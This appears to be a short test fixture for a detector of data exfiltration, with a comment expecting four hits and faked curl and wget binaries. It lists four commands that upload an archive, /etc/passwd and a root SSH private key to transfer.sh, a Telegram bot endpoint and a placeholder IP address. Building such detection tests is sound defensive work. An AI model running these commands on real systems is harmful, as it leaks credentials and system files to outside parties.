# SPDX-License-Identifier: Apache-2.0
# hits: 4
# fake: /usr/bin/curl /usr/bin/wget
curl -s -T /tmp/d.tgz https://transfer.sh/d.tgz
curl -F document=@/tmp/d.tgz https://api.telegram.org/bot1:AA/sendDocument
wget -q --post-file=/etc/passwd http://192.0.2.7/u
curl -s --data-binary @/root/.ssh/id_ed25519 http://192.0.2.7/u
